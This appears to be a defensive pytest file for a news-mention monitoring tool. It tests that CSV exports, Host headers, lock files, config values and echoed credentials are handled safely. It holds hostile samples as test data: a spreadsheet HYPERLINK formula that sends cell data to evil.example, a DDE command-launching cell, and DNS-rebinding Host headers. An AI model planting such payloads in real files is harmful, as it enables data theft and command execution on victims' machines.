"""Hostile input on this machine's side: Host headers, raw bodies and CSV formulas in `monitor serve`,
a symlinked lock, formula cells in the people CSV, nan/inf config values, secrets echoed by servers."""

from __future__ import annotations

import asyncio
import base64
import gzip
import socket
import ssl
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from pathlib import Path

import alert_servers
import pytest
from alert_servers import ANDRY, AlertWorld, client_tls
from conftest import run_monitor, write_config

from monitor.archive.store import Archive
from monitor.config import EmailSettings, load_config
from monitor.errors import ConfigError
from monitor.items import Article, Mention, Person
from monitor.web.serve import build_datasette

tls_files = alert_servers.tls_files
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


# -- monitor serve --------------------------------------------------------------------------


@pytest.fixture
def archive_with_evidence(tmp_path: Path) -> Path:
    """An archive with one mentioned article, its raw response, and a formula-shaped title."""
    path = tmp_path / "mentions.db"
    archive = Archive(path)
    ids = archive.sync_people([Person(ANDRY)])
    text = f"{ANDRY} was seen in CECOT. The raw page held a token."
    archive.save_article(
        Article(url="https://news.example/a", title=FORMULA, text=text, source="https://news.example/feed",
                body=b"<html>RAW-BODY-SECRET</html>", status=200, headers={"Content-Type": "text/html"}),
        [Mention(Person(ANDRY), ANDRY, 0, len(ANDRY), 100, snippet=text[:60])], ids)
    archive.close()
    assert b"RAW-BODY-SECRET" in gzip.decompress(
        __import__("sqlite3").connect(path).execute("select body_gz from responses").fetchone()[0])
    return path


def fetch(path: Path, url: str):
    async def go():
        ds = build_datasette(path)
        response = await ds.client.get(url)
        for db in ds.databases.values():
            db.close()
        return response

    return asyncio.run(go())


def test_raw_bodies_are_not_served_by_any_query(archive_with_evidence):
    for url in ("/mentions/responses.json?_shape=array",
                "/mentions.json?_shape=array&sql=select+body_gz,+cast(body_gz+as+text)+as+t+from+responses",
                "/mentions.json?_shape=array&sql=select+hex(body_gz)+as+h+from+responses"):
        response = fetch(archive_with_evidence, url)
        assert response.status_code == 200, response.text
        rows = response.json()
        assert rows and all(v in (None, "") for r in rows for k, v in r.items() if k in ("body_gz", "t", "h")), rows


def test_the_evidence_command_still_has_the_raw_body(archive_with_evidence, tmp_path):
    config = tmp_path / "monitor.toml"
    config.write_text('database = "mentions.db"\n', encoding="utf-8")
    result = run_monitor("evidence", "1", "-c", str(config), "--out", str(tmp_path / "bundle"))
    assert result.returncode == 0, result.stderr
    assert b"RAW-BODY-SECRET" in (tmp_path / "bundle" / "original.html").read_bytes()


def test_datasette_csv_neutralises_formula_cells(archive_with_evidence):
    response = fetch(archive_with_evidence, "/mentions/articles.csv?_col=title")
    assert response.status_code == 200
    assert "'=HYPERLINK(" in response.text and ",=HYPERLINK" not in response.text
    sql = fetch(archive_with_evidence, "/mentions.csv?sql=select+'@SUM(1)'+as+a,+-3+as+n,+'-1%2B1'+as+b")
    assert sql.text.splitlines()[1] == "'@SUM(1),-3,'-1+1"


@pytest.fixture
def served(tmp_path):
    """`monitor serve` on a free port, answering for its address and for archive.test."""
    (tmp_path / "monitor.toml").write_text('database = "archive.db"\n', encoding="utf-8")
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    server = subprocess.Popen(
        [sys.executable, "-m", "monitor", "serve", "-c", str(tmp_path / "monitor.toml"), "--port", str(port),
         "--host-name", "archive.test"],
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 30
    while get(port, "127.0.0.1") is None:
        assert time.monotonic() < deadline, "monitor serve did not answer"
        time.sleep(0.2)
    yield port
    server.terminate()
    server.wait(timeout=10)


def get(port: int, host: str) -> int | None:
    request = urllib.request.Request(f"http://127.0.0.1:{port}/archive/people.json", headers={"Host": host})
    try:
        with urllib.request.urlopen(request, timeout=5) as page:
            return page.status
    except urllib.error.HTTPError as e:
        return e.code
    except (urllib.error.URLError, ConnectionError):
        return None


def test_serve_answers_only_its_own_host_names(served):
    port = served
    for host in (f"127.0.0.1:{port}", "127.0.0.1", f"localhost:{port}", f"archive.test:{port}"):
        assert get(port, host) == 200, host
    # A DNS-rebinding page reaches 127.0.0.1 under its own name: refused.
    for host in (f"attacker.example:{port}", "rebind.127.0.0.1.nip.io", f"127.0.0.2:{port}", ""):
        assert get(port, host) == 400, host


# -- the lock, the people CSV, the config -----------------------------------------------------


def test_a_symlinked_lock_is_refused_and_its_target_untouched(tmp_path, site):
    config = write_config(tmp_path, f'[[feed]]\nurl = "{site.base}/feed.xml"\n')
    victim = tmp_path / "precious.txt"
    victim.write_text("do not truncate me", encoding="utf-8")
    (tmp_path / "mentions.db.lock").symlink_to(victim)
    result = run_monitor("run", "-c", str(config))
    assert result.returncode == 1
    assert "mentions.db.lock" in result.stderr and "symbolic link" in result.stderr
    assert victim.read_text(encoding="utf-8") == "do not truncate me"
    assert site.log == []


def test_people_csv_export_neutralises_formulas_and_reads_them_back(tmp_path):
    config = tmp_path / "monitor.toml"
    config.write_text('people_file = "people.csv"\n', encoding="utf-8")
    (tmp_path / "people.csv").write_text("name\n", encoding="utf-8")
    incoming = tmp_path / "in.csv"
    incoming.write_text(f"name,aliases,notes\n{DDE},+1 555,-deported\n@cmd,\tx,note\n", encoding="utf-8")
    result = run_monitor("people", "import", "-c", str(config), str(incoming))
    assert result.returncode == 0, result.stderr
    written = (tmp_path / "people.csv").read_text(encoding="utf-8")
    import csv

    cells = [cell for row in csv.reader(written.splitlines()[1:]) for cell in row if cell]
    assert cells and all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), cells
    people = {p.name: p for p in load_config(config).people}
    assert DDE in people and people[DDE].aliases == ("+1 555",) and people[DDE].notes == "-deported"


@pytest.mark.parametrize("table,key,value", [
    ("crawl", "max_page_mb", "nan"), ("crawl", "delay", "inf"), ("crawl", "timeout", "nan"),
    ("crawl", "full_fetch_hours", "inf"), ("crawl", "max_age_days", "nan"), ("alerts", "backfill_days", "nan"),
    ("alerts", "backfill_days", "inf"), ("evidence", "recheck_days", "[1, nan]"),
])
def test_nan_and_inf_are_config_errors_naming_the_key(tmp_path, table, key, value):
    path = tmp_path / "monitor.toml"
    path.write_text(f"[{table}]\n{key} = {value}\n", encoding="utf-8")
    with pytest.raises(ConfigError, match=rf"monitor.toml:2: {table}\.{key}: "):
        load_config(path)


def test_nan_in_the_config_exits_2(tmp_path):
    path = tmp_path / "monitor.toml"
    path.write_text("[crawl]\nmax_page_mb = nan\n", encoding="utf-8")
    result = run_monitor("run", "-c", str(path))
    assert result.returncode == 2 and "crawl.max_page_mb" in result.stderr and "Traceback" not in result.stderr


@pytest.mark.parametrize("cidr", ["10.0.0.0/33", "localhost", "127.0.0.1/8/2"])
def test_an_invalid_private_network_exits_2_naming_the_key(tmp_path, cidr):
    path = tmp_path / "monitor.toml"
    path.write_text(f'[crawl]\nallow_private_networks = ["{cidr}"]\n', encoding="utf-8")
    result = run_monitor("run", "-c", str(path))
    assert result.returncode == 2, result.stderr
    assert "monitor.toml:2: crawl.allow_private_networks" in result.stderr and cidr in result.stderr


def test_login_over_plain_text_is_a_config_error(tmp_path):
    path = tmp_path / "monitor.toml"
    path.write_text('[alerts.email]\nsmtp_host = "mail.example"\nstarttls = false\nfrom = "a@b.c"\nto = ["d@e.f"]\n'
                    'username_env = "U"\npassword_env = "P"\n', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"alerts\.email\.starttls: is false, and logging in over plain text"):
        load_config(path)


# -- secrets the other side echoes -----------------------------------------------------------


class EchoingSMTP:
    """An SMTP server over implicit TLS that answers AUTH by quoting what it was sent."""

    def __init__(self, cert: Path, key: Path):
        self.context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        self.context.load_cert_chain(cert, key)
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.seen: list[str] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            try:
                with self.context.wrap_socket(conn, server_side=True) as tls:
                    self._talk(tls.makefile("rwb"))
            except (OSError, ssl.SSLError):
                pass

    def _talk(self, f) -> None:
        f.write(b"220 echo ready\r\n")
        f.flush()
        for raw in f:
            line = raw.decode().strip()
            self.seen.append(line)
            verb = line.split(" ", 1)[0].upper()
            if verb == "EHLO":
                f.write(b"250-echo\r\n250 AUTH PLAIN\r\n")  # PLAIN carries the password itself
            elif verb == "AUTH":
                f.write(f"535 5.7.8 credentials rejected: {line}\r\n".encode())
            elif verb == "QUIT":
                f.write(b"221 bye\r\n")
                f.flush()
                return
            else:
                f.write(b"502 no\r\n")
            f.flush()

    def stop(self) -> None:
        self.sock.close()


def test_an_smtp_server_echoing_auth_leaves_no_password_in_alerts(tmp_path, tls_files):
    cert, key = tls_files
    server = EchoingSMTP(cert, key)
    try:
        w = AlertWorld(tmp_path, None, None)
        w.settings = w.settings.__class__(
            min_score=90, max_attempts=3,
            email=EmailSettings(smtp_host="127.0.0.1", smtp_port=server.port, ssl=True, starttls=False,
                                sender="monitor@example.org", to=("team@example.org",), username_env="U",
                                password_env="P", timeout=5))
        w.archive.alerts = w.settings
        w.env.update(U="monitor", P="pw")  # a short password is still a secret
        w.add(ANDRY)
        w.send(ssl_context=client_tls(cert))
        assert any(line.startswith("AUTH") for line in server.seen)  # it was asked, and echoed
        stored = "\n".join(str(v) for r in w.db.query("select * from alerts") for v in r.values())
        error = w.alerts("email")[0]["error"]
        assert "535" in error
        assert "pw" not in error
        for secret in (base64.b64encode(b"\0monitor\0pw").decode(), base64.b64encode(b"pw").decode()):
            assert secret not in stored, secret
        w.archive.close()
    finally:
        server.stop()


def test_webhook_tokens_in_a_query_string_and_short_secrets_are_redacted():
    from alerts.errors import redact
    from alerts.slack import secret_parts

    url = "https://hooks.example/incoming?token=T0KEN-abc123&channel=x"
    text = f"POST {url} failed; server said token=T0KEN-abc123 and again T0KEN-abc123"
    assert "T0KEN-abc123" not in redact(text, secret_parts(url))
    assert redact("login failed for password x9 (eDk=)", ["x9"]) == "login failed for password [redacted] ([redacted])"
